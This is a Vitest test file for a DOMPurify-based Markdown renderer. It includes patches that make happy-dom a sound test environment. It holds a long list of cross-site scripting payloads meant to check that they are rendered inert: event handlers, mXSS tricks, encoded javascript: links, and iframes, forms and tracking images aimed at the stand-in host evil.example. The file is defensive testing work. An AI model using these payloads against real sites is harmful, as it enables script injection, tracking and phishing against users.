// @vitest-environment happy-dom
// renderMarkdown must keep ordinary Markdown and turn every hostile payload into inert text: no
// script, no event handler, no style, no navigation off the allow-list, no network request.
//
// happy-dom on its own is NOT a sound DOM for DOMPurify (DOMPurify's README says so): its
// Node.prototype.nodeName getter returns '' for elements (capricorn86/happy-dom#2182), and its
// NodeIterator stops when the current node is removed (capricorn86/happy-dom#2310), so a sanitizer
// can look safe here while letting a <script> through. The two patches below make those two
// behaviours follow the DOM standard, and the first test proves the environment is sound before
// any payload test is believed. Browsers need none of this.
import DOMPurify from 'dompurify';
import { beforeAll, describe, expect, it } from 'vitest';
import { codeBlockLanguage, colorizedFragment, renderMarkdown, safeHref } from './markdown.js';

/** Node.prototype's nodeName getter answers with the node's own (most derived) nodeName. */
function patchNodeName(win: Window & typeof globalThis) {
  const base = Object.getOwnPropertyDescriptor(win.Node.prototype, 'nodeName')!.get!;
  Object.defineProperty(win.Node.prototype, 'nodeName', {
    configurable: true,
    get(this: Node) {
      for (let proto = Object.getPrototypeOf(this); proto && proto !== win.Node.prototype; proto = Object.getPrototypeOf(proto)) {
        const getter = Object.getOwnPropertyDescriptor(proto, 'nodeName')?.get;
        if (getter) return getter.call(this) as string;
      }
      return base.call(this) as string;
    },
  });
}

/** The prototype in `object`'s chain that defines `name` (happy-dom's window.Document is not the document's class). */
function owner<T extends object>(object: T, name: string): T {
  for (let proto = Object.getPrototypeOf(object); proto; proto = Object.getPrototypeOf(proto))
    if (Object.prototype.hasOwnProperty.call(proto, name)) return proto as T;
  throw new Error(`no ${name} on ${String(object)}`);
}

/** A NodeIterator as the DOM standard defines it, including its pre-removing steps. */
function patchNodeIterator(win: Window & typeof globalThis) {
  const doc = win.document;
  const live = new Set<{ preRemove(node: Node): void }>();
  const following = (node: Node, root: Node, skipChildren = false): Node | null => {
    if (!skipChildren && node.firstChild) return node.firstChild;
    for (let n: Node | null = node; n && n !== root; n = n.parentNode) if (n.nextSibling) return n.nextSibling;
    return null;
  };
  const lastInclusiveDescendant = (node: Node): Node => {
    let n = node;
    while (n.lastChild) n = n.lastChild;
    return n;
  };
  owner(doc, 'createNodeIterator').createNodeIterator = function (root: Node, whatToShow = 0xffffffff, filter: NodeFilter | null = null) {
    let reference: Node = root;
    let pointerBeforeReference = true;
    const accept = (node: Node) => (whatToShow & (1 << (node.nodeType - 1))) !== 0 && (!filter || (typeof filter === 'function' ? filter(node) : filter.acceptNode(node)) === 1);
    const iterator = {
      root,
      whatToShow,
      filter,
      get referenceNode() {
        return reference;
      },
      get pointerBeforeReferenceNode() {
        return pointerBeforeReference;
      },
      nextNode(): Node | null {
        let node: Node | null = reference;
        let before = pointerBeforeReference;
        for (;;) {
          if (before) before = false;
          else {
            node = following(node!, root);
            if (!node) return null;
          }
          if (accept(node!)) {
            reference = node!;
            pointerBeforeReference = false;
            return node;
          }
        }
      },
      previousNode(): Node | null {
        throw new Error('not needed by these tests');
      },
      detach() {},
      preRemove(removed: Node) {
        if (removed === root || !removed.contains(reference)) return;
        if (pointerBeforeReference) {
          let next = following(removed, root, true);
          while (next && !root.contains(next)) next = null;
          if (next) {
            reference = next;
            return;
          }
          pointerBeforeReference = false;
        }
        const previous = removed.previousSibling;
        reference = previous ? lastInclusiveDescendant(previous) : removed.parentNode!;
      },
    };
    live.add(iterator);
    return iterator as unknown as NodeIterator;
  };
  const nodeProto = owner(doc.createElement('div') as Node, 'removeChild');
  const removeChild = nodeProto.removeChild;
  nodeProto.removeChild = function <T extends Node>(this: Node, child: T): T {
    for (const it of live) it.preRemove(child);
    return removeChild.call(this, child) as T;
  };
  for (const proto of [owner(doc.createElement('div') as ChildNode, 'remove'), owner(doc.createTextNode('') as ChildNode, 'remove'), owner(doc.createComment('') as ChildNode, 'remove')]) {
    const remove = proto.remove;
    proto.remove = function (this: ChildNode) {
      for (const it of live) it.preRemove(this);
      remove.call(this);
    };
  }
}

beforeAll(() => {
  // Before renderMarkdown first runs: it makes its DOMPurify instance on first use.
  patchNodeName(window);
  patchNodeIterator(window);
});

describe('the test DOM', () => {
  it('is sound enough for DOMPurify (else every other result here would mean nothing)', () => {
    const purify = DOMPurify(window);
    expect(purify.sanitize('<h1>x</h1><p>a<script>alert(1)</script>b</p><div><img src=x onerror=alert(2)><svg onload=alert(3)></svg></div><b onclick=x>y</b>')).toBe(
      '<h1>x</h1><p>ab</p><div><img src="x"><svg></svg></div><b>y</b>',
    );
    expect(purify.sanitize('<div class="o1">a</div><div class="o2">b</div><script>c</script>', { ALLOWED_TAGS: ['b'] })).toBe('ab');
  });
});

/** The rendered HTML parsed back, to ask questions of elements rather than of strings. */
function dom(source: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = renderMarkdown(source);
  return div;
}

/** Things that must never survive, whatever the payload. */
function expectInert(root: HTMLElement) {
  const html = root.innerHTML.toLowerCase();
  for (const tag of ['script', 'style', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'select', 'svg', 'math', 'img', 'image', 'video', 'audio', 'source', 'picture', 'link', 'meta', 'base', 'template', 'noscript', 'xmp', 'plaintext'])
    expect(root.querySelector(tag), `<${tag}> survived in ${html}`).toBeNull();
  for (const element of Array.from(root.querySelectorAll('*'))) {
    for (const attr of Array.from(element.attributes)) {
      const name = attr.name.toLowerCase();
      expect(name.startsWith('on'), `${name} on <${element.tagName}>`).toBe(false);
      expect(['style', 'src', 'srcset', 'background', 'action', 'formaction', 'ping', 'poster', 'xlink:href', 'data', 'srcdoc']).not.toContain(name);
    }
    const href = element.getAttribute('href');
    if (href !== null) expect(href, `href of <${element.tagName}>`).toMatch(/^(https?:\/\/|mailto:|#user-content-)/);
  }
}

const links = (root: HTMLElement) => Array.from(root.querySelectorAll('a'));

describe('ordinary Markdown', () => {
  it('renders headings, emphasis, lists and paragraphs', () => {
    const root = dom('# Title\n\n## Sub\n\nSome *emphasis* and **strong** text.\n\n- one\n- two\n\n1. first\n2. second\n');
    expect(root.querySelector('h1')?.textContent).toBe('Title');
    expect(root.querySelector('h2')?.textContent).toBe('Sub');
    expect(root.querySelector('em')?.textContent).toBe('emphasis');
    expect(root.querySelector('strong')?.textContent).toBe('strong');
    expect(root.querySelectorAll('ul > li')).toHaveLength(2);
    expect(root.querySelectorAll('ol > li')).toHaveLength(2);
  });

  it('renders GFM tables with alignment', () => {
    const root = dom('| input | output |\n|:--|--:|\n| `[1, 2]` | 3 |\n');
    expect(root.querySelectorAll('table thead th')).toHaveLength(2);
    expect(root.querySelector('tbody td code')?.textContent).toBe('[1, 2]');
    expect(root.querySelector('th')?.getAttribute('align')).toBe('left');
    expect(root.querySelectorAll('td')[1]?.getAttribute('align')).toBe('right');
  });

  it('keeps inline code as text, with its angle brackets escaped', () => {
    const root = dom('Call `f(<script>alert(1)</script>)` here.');
    expect(root.querySelector('code')?.textContent).toBe('f(<script>alert(1)</script>)');
    expectInert(root);
  });

  it('keeps the language class of fenced code blocks, and their content as text', () => {
    const root = dom('```python\ndef f(x):\n    return x < 2 and "<b>"\n```\n\n```js\nconst a = 1;\n```\n\n```\nplain\n```\n');
    const codes = Array.from(root.querySelectorAll('pre > code'));
    expect(codes.map((c) => c.getAttribute('class'))).toEqual(['language-python', 'language-js', null]);
    expect(codes[0]?.textContent).toBe('def f(x):\n    return x < 2 and "<b>"\n');
    expect(root.querySelector('b')).toBeNull();
  });

  it('keeps safe links, opening in a new tab without referrer or opener', () => {
    const root = dom('[docs](https://example.com/a?b=1#c) <mailto:someone@example.com> www.example.org');
    const [a, b, c] = links(root);
    expect(a?.getAttribute('href')).toBe('https://example.com/a?b=1#c');
    expect(a?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(a?.getAttribute('target')).toBe('_blank');
    expect(b?.getAttribute('href')).toBe('mailto:someone@example.com');
    expect(c?.getAttribute('href')).toBe('http://www.example.org/');
  });

  it('keeps in-page anchors, pointing at the prefixed ids of the content', () => {
    const root = dom('<h2 id="notes">Notes</h2>\n\n[see notes](#notes)');
    expect(root.querySelector('h2')?.id).toBe('user-content-notes');
    const [a] = links(root);
    expect(a?.getAttribute('href')).toBe('#user-content-notes');
    expect(a?.hasAttribute('target')).toBe(false);
  });

  it('turns GFM task list boxes into glyphs', () => {
    const root = dom('- [x] done\n- [ ] to do\n');
    expect(Array.from(root.querySelectorAll('li')).map((li) => li.textContent?.trim())).toEqual(['☑ done', '☐ to do']);
    expectInert(root);
  });

  it('allows harmless hand-written HTML but strips its classes and styles', () => {
    const root = dom('H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd>\n\n<details><summary>More</summary>hidden</details>\n\n<span class="page masthead" style="color:red">x</span>');
    expect(root.querySelector('sub')?.textContent).toBe('2');
    expect(root.querySelector('kbd')?.textContent).toBe('Ctrl');
    expect(root.querySelector('details summary')?.textContent).toBe('More');
    expect(root.querySelector('span')?.hasAttribute('class')).toBe(false);
    expectInert(root);
  });
});

describe('hostile payloads', () => {
  const payloads: [string, string][] = [
    ['script tag', '<script>alert(1)</script>'],
    ['script tag, uppercase', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
    ['script split by markdown', '<scr<script>ipt>alert(1)</script>'],
    ['img onerror', '<img src=x onerror="alert(1)">'],
    ['img onerror, no quotes', '<IMG SRC=x ONERROR=alert(1)>'],
    ['svg onload', '<svg onload=alert(1)><circle r="1"/></svg>'],
    ['svg with script', '<svg><script>alert(1)</script></svg>'],
    ['svg animate href', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>'],
    ['math with link', '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'],
    ['body onload', '<body onload=alert(1)>'],
    ['div with handlers', '<div onmouseover="alert(1)" onclick=alert(2) onfocus=alert(3) tabindex=0>hover</div>'],
    ['details ontoggle', '<details open ontoggle=alert(1)>x</details>'],
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['object', '<object data="javascript:alert(1)"></object>'],
    ['embed', '<embed src="https://evil.example/x.swf">'],
    ['style tag', '<style>body{background:url(https://evil.example/t.png)}</style>'],
    ['style attribute', '<p style="background:url(https://evil.example/t.png);position:fixed;inset:0">x</p>'],
    ['link stylesheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['base href', '<base href="https://evil.example/">'],
    ['form action', '<form action="https://evil.example"><input name=p type=password><button>Log in</button></form>'],
    ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
    ['table background', '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/u.png">x</td></tr></table>'],
    ['video poster', '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>'],
    ['picture source', '<picture><source srcset="https://evil.example/p.png"><img src="https://evil.example/p.png"></picture>'],
    ['a ping', '<a href="https://example.com" ping="https://evil.example/ping">x</a>'],
    ['template', '<template><img src=x onerror=alert(1)></template>'],
    ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['comment mXSS', '<!--<img src="--><img src=x onerror=alert(1)//">'],
    ['html javascript link', '<a href="javascript:alert(1)">x</a>'],
    ['markdown javascript link', '[x](javascript:alert(1))'],
    ['markdown javascript link, uppercase', '[x](JAVASCRIPT:alert(1))'],
    ['markdown javascript link, mixed case', '[x](JaVaScRiPt:alert(1))'],
    ['javascript link, entity-encoded', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
    ['javascript link, hex entities', '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>'],
    ['javascript link, named colon entity', '<a href="javascript&colon;alert(1)">x</a>'],
    ['javascript link, tab inside', '<a href="java\tscript:alert(1)">x</a>'],
    ['javascript link, encoded tab', '<a href="java&#9;script:alert(1)">x</a>'],
    ['javascript link, encoded newline', '<a href="java&#10;script:alert(1)">x</a>'],
    ['javascript link, leading space and controls', '<a href=" &#1; javascript:alert(1)">x</a>'],
    ['markdown javascript link, angle brackets', '[x](<javascript:alert(1)>)'],
    ['markdown javascript link, percent-encoded', '[x](%6Aavascript:alert(1))'],
    ['markdown javascript reference link', '[x][r]\n\n[r]: javascript:alert(1)'],
    ['markdown javascript autolink', '<javascript:alert(1)>'],
    ['vbscript link', '[x](vbscript:msgbox(1))'],
    ['data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['data link, html', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['file link', '[x](file:///etc/passwd)'],
    ['blob link', '[x](blob:https://example.com/uuid)'],
    ['relative link', '[settings](/settings)'],
    ['relative link, dot', '[x](./review?task=1)'],
    ['protocol-relative link', '[x](//evil.example/phish)'],
    ['backslash link', '[x](/\\evil.example)'],
    ['markdown image, remote', '![tracker](https://evil.example/pixel.png)'],
    ['markdown image, protocol-relative', '![tracker](//evil.example/pixel.png)'],
    ['markdown image, data', '![dot](data:image/png;base64,iVBORw0KGgo=)'],
    ['markdown image, javascript', '![x](javascript:alert(1))'],
    ['markdown image, relative', '![x](/api/delete?all=1)'],
    ['markdown image with hostile title', '![x](https://evil.example/x.png "a\\" onerror=\\"alert(1)")'],
    ['image inside a link', '[![x](https://evil.example/x.png)](javascript:alert(1))'],
    ['markdown link with hostile title', '[x](https://example.com "\\" onmouseover=\\"alert(1)")'],
    ['html in link text', '[<img src=x onerror=alert(1)>](https://example.com)'],
    ['id clobbering', '<a id="root" name="root">x</a><form id=locale-select></form>'],
    ['aria relabel', '<p aria-label="Verdict: passed" aria-hidden="true" data-x=1>failed</p>'],
    ['textarea breakout', '<textarea></textarea><script>alert(1)</script>'],
    ['nested markdown in html', '<div>\n\n[x](javascript:alert(1))\n\n</div>'],
  ];

  it.each(payloads)('%s is inert', (_name, source) => {
    expectInert(dom(source));
  });

  it('drops the href of every link off the allow-list but keeps the text', () => {
    // tel:, sms:, ftp: and xmpp: pass DOMPurify's own URI check; only http(s) and mailto pass ours.
    for (const source of ['[click](javascript:alert(1))', '[click](data:text/html,x)', '[click](/settings)', '[click](//evil.example)', '[click](tel:+56912345678)', '[click](sms:+56912345678)', '[click](ftp://example.com/x)', '[click](xmpp:a@b.cl)']) {
      const [a] = links(dom(source));
      expect(a?.textContent, source).toBe('click');
      expect(a?.hasAttribute('href'), source).toBe(false);
    }
  });

  it('replaces every image by its alt text in brackets, or the given placeholder', () => {
    expect(dom('![a chart](https://example.com/c.png)').textContent?.trim()).toBe('[a chart]');
    expect(dom('<img src="data:image/png;base64,AAAA" alt="dot">').textContent?.trim()).toBe('[dot]');
    const div = document.createElement('div');
    div.innerHTML = renderMarkdown('![](https://example.com/c.png)', { imagePlaceholder: 'imagen' });
    expect(div.textContent?.trim()).toBe('[imagen]');
    expect(div.querySelector('img')).toBeNull();
  });

  it('drops script and style contents entirely, not just the tags', () => {
    const root = dom('before<script>alert("secret")</script><style>p{}</style>after');
    expect(root.textContent).not.toContain('alert');
    expect(root.textContent).not.toContain('p{}');
    expect(root.textContent).toContain('before');
  });
});

describe('safeHref', () => {
  it('allows http, https and mailto, normalized', () => {
    expect(safeHref('HTTPS://Example.com/x')).toBe('https://example.com/x');
    expect(safeHref('  http://example.com  ')).toBe('http://example.com/');
    expect(safeHref('mailto:a@b.cl')).toBe('mailto:a@b.cl');
  });

  it('refuses everything else', () => {
    for (const href of ['javascript:alert(1)', ' JavaScript:x', 'java\nscript:x', 'data:text/html,x', 'vbscript:x', 'file:///x', '/x', 'x', '//evil.example', '', '#'])
      expect(safeHref(href), href).toBeNull();
  });

  it('prefixes in-page anchors once', () => {
    expect(safeHref('#a')).toBe('#user-content-a');
    expect(safeHref('#user-content-a')).toBe('#user-content-a');
  });
});

describe('code block helpers', () => {
  it('maps language classes to the languages Monaco highlights', () => {
    const code = (cls: string) => Object.assign(document.createElement('code'), { className: cls });
    expect(codeBlockLanguage(code('language-python'))).toBe('python');
    expect(codeBlockLanguage(code('language-py'))).toBe('python');
    expect(codeBlockLanguage(code('language-javascript'))).toBe('javascript');
    expect(codeBlockLanguage(code('language-js'))).toBe('javascript');
    expect(codeBlockLanguage(code('language-rust'))).toBeUndefined();
  });

  it('rebuilds colorized HTML as token spans and text only', () => {
    const html =
      '<div class="monaco-tokenized-source"><span><span class="mtk8">def</span><span class="mtk1">&#160;f():</span></span><br/>' +
      '<span><span class="mtk1">&#160;&#160;&#160;&#160;</span><img src=x onerror=alert(1)><span class="mtk6 mtki evil" onclick="x()">return</span><script>alert(1)</script></span><br/></div>';
    const fragment = colorizedFragment(html);
    const div = document.createElement('div');
    div.append(fragment);
    expect(div.textContent).toBe('def f():\n    return\n');
    expect(div.querySelector('img, script, [onclick]')).toBeNull();
    expect(Array.from(div.querySelectorAll('span')).map((s) => s.className)).toEqual(['mtk8', 'mtk1', 'mtk1', 'mtk6 mtki']);
  });
});
